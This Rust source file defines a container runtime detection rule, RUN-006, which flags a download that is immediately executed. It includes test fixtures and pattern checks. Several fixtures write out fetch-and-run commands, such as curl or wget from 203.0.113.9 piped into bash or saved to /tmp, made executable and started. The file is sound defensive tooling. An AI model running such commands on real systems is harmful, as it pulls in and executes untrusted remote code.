//! Download that is run at once.

use crate::runtime::prelude::*;

runtime_rule! {
    /// Download that is run at once
    ///
    /// A file is fetched and run in one breath: piped into a shell, or made executable and started a moment
    /// later. Nearly every break-in into a container has this step.
    ///
    /// **Benign:** Installers of developers' tools in CI and in containers that people work in.
    ///
    /// **Respond:** Fetch the same file for analysis, block its source, and look at what it started.
    "RUN-006" {
        severity: High,
        attack: CommandAndControl "T1105",
        on: ["exec"],
        fires: [
            r#"{exec: "sh -c 'curl -fsSL http://203.0.113.9/x.sh | bash'", by: nginx}"#,
            r#"{exec: "curl -o /tmp/x http://203.0.113.9/x", by: sh}
---
{exec: "chmod +x /tmp/x", by: sh}
---
{exec: "/tmp/x", by: sh, origin: upper}"#,
            r#"{exec: "wget http://203.0.113.9/x -O /tmp/x", by: sh}
---
{exec: "sh /tmp/x", by: sh}"#,
        ],
        quiet: [
            r#"{exec: "curl -sf http://localhost:8080/healthz", by: sh}
---
{exec: "/usr/bin/env", by: sh}"#,
            r#"{exec: "sh -c 'curl -s https://api.example/status | grep ok'"}"#,
        ],
        run: Sequence(run),
    }
}

/// How long after a download a program counts as what was downloaded.
const WITHIN_SECONDS: i64 = 600;

fn run(scene: &Scene<'_>, window: &mut Window<'_>, found: &mut Found) {
    if !scene.in_container() {
        return;
    }
    let key = scene.subject_key();
    let line = scene.process().command_line();
    let is_shell = programs::is_shell(scene.program());
    if scene.command().download().is_some() {
        if is_shell && pipes_to_shell(&line) {
            found.say(format!(
                "{} fetches a script and runs it: {line}",
                scene.who()
            ));
            return;
        }
        if programs::is_downloader(scene.program()) {
            window.keep(&[&key], &line);
        }
        return;
    }
    if window.is_empty() {
        return;
    }
    let executable = scene.process().executable.as_str();
    let script = scene
        .argv()
        .get(1)
        .filter(|_| is_shell)
        .map_or("", String::as_str);
    let started = [executable, script].into_iter().find(|path| {
        places::is_for_everybody(path)
            || (scene.process().origin == FileOrigin::Upper && *path == executable)
    });
    if let Some(started) = started
        && let Some(download) = window.recall(&[&key], WITHIN_SECONDS)
    {
        found
            .say(format!(
                "{} runs {started} right after a download",
                scene.who()
            ))
            .with("download", download);
    }
}

fn pipes_to_shell(line: &str) -> bool {
    line.split('|').skip(1).any(|stage| {
        let program = stage
            .split_whitespace()
            .find(|it| !matches!(*it, "sudo" | "env"))
            .unwrap_or_default();
        let name = program.rsplit('/').next().unwrap_or_default();
        let name = name.trim_matches(['"', '\'']);
        programs::is_shell(name) || programs::is_interpreter(name)
    }) || line.contains("$(curl")
        || line.contains("$(wget")
        || line.contains("<(curl")
}
